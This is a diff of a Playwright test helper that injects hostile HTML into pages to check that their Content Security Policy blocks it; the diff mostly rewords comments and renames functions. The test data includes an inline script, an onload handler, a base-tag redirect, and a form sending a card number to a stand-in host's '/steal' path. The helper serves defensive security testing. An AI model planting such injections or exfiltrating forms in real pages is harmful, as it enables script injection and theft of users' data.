@@ -1,9 +1,9 @@
 import type { Page } from '@playwright/test';
 
-/** A host that no page has any business with. */
+/** A host that no page uses. */
 const FOREIGN = 'https://foreign.example';
 
-/** What an attacker who got text into a page would try; each leaves a trace when it works. */
+/** Attacks by injected HTML. Each leaves a trace if it succeeds. */
 const INJECTED = `
 <script>document.documentElement.dataset.inline = 'ran'</script>
 <img src="/favicon.svg" alt="" onload="document.documentElement.dataset.handler = 'ran'">
@@ -17,8 +17,8 @@ const INJECTED = `
 <form id="injected-form" action="${FOREIGN}/steal"><input name="card" value="4111"></form>`;
 
 /**
- * What an attacker would try who got text into a page before its policy, so that the policy's own
- * element is not part of the head any more: only the header protects then.
+ * Attacks by HTML that is injected before the policy's meta element, which is then not in the head
+ * any more, so that only the policy of the HTTP header applies.
  */
 const INJECTED_BEFORE_POLICY = `
 <base href="${FOREIGN}/">
@@ -26,7 +26,7 @@ const INJECTED_BEFORE_POLICY = `
 <a id="injected-link" href="#main">a</a>
 <form id="injected-form" action="${FOREIGN}/steal"><input name="card" value="4111"></form>`;
 
-/** Where the text gets into the page. */
+/** The place of the injected HTML. */
 export type InjectionPoint = 'main' | 'before-policy';
 
 const INJECT: Record<InjectionPoint, (html: string) => string> = {
@@ -34,13 +34,13 @@ const INJECT: Record<InjectionPoint, (html: string) => string> = {
   'before-policy': (html) => html.replace('<head>', `<head>${INJECTED_BEFORE_POLICY}`),
 };
 
-/** What the browser blocked, by the directive that said so, and what came through all the same. */
+/** The directives that blocked an attack, and the traces of attacks that succeeded. */
 interface Outcome {
   readonly blocked: readonly string[];
   readonly passed: readonly string[];
 }
 
-/** Serves the page at `path` with the injected text, its headers and policy as they are. */
+/** Serves the page at `path` with the injected HTML and unchanged headers. */
 async function serveInjected(page: Page, path: string, point: InjectionPoint): Promise<void> {
   await page.route(
     (url) => url.pathname === path,
@@ -53,7 +53,7 @@ async function serveInjected(page: Page, path: string, point: InjectionPoint): P
   );
 }
 
-/** Counts what reaches the foreign host. It answers, so that only the policy stands in the way. */
+/** Records requests to the foreign host and answers them, so that only the policy can block them. */
 async function answerForeign(page: Page, reached: string[]): Promise<void> {
   await page.route(`${FOREIGN}/**`, async (route) => {
     reached.push(new URL(route.request().url()).pathname);
@@ -61,8 +61,8 @@ async function answerForeign(page: Page, reached: string[]): Promise<void> {
   });
 }
 
-/** Hands every refusal of the policy to the test. */
-async function reportBlocked(page: Page, blocked: string[]): Promise<void> {
+/** Records the directive of every policy violation. */
+async function recordViolations(page: Page, blocked: string[]): Promise<void> {
   await page.exposeFunction('reportBlocked', (directive: string) => {
     blocked.push(directive);
   });
@@ -74,15 +74,15 @@ async function reportBlocked(page: Page, blocked: string[]): Promise<void> {
   });
 }
 
-/** Prepares the page. @returns opens an address as an attacker would have it and touches the bait. */
-export async function attacker(
+/** Prepares the page. @returns a function that opens a path and triggers the injected attacks. */
+export async function prepareInjection(
   page: Page,
   point: InjectionPoint = 'main',
 ): Promise<(path: string) => Promise<Outcome>> {
   const reached: string[] = [];
   const blocked: string[] = [];
   await answerForeign(page, reached);
-  await reportBlocked(page, blocked);
+  await recordViolations(page, blocked);
 
   return async (path) => {
     reached.length = 0;
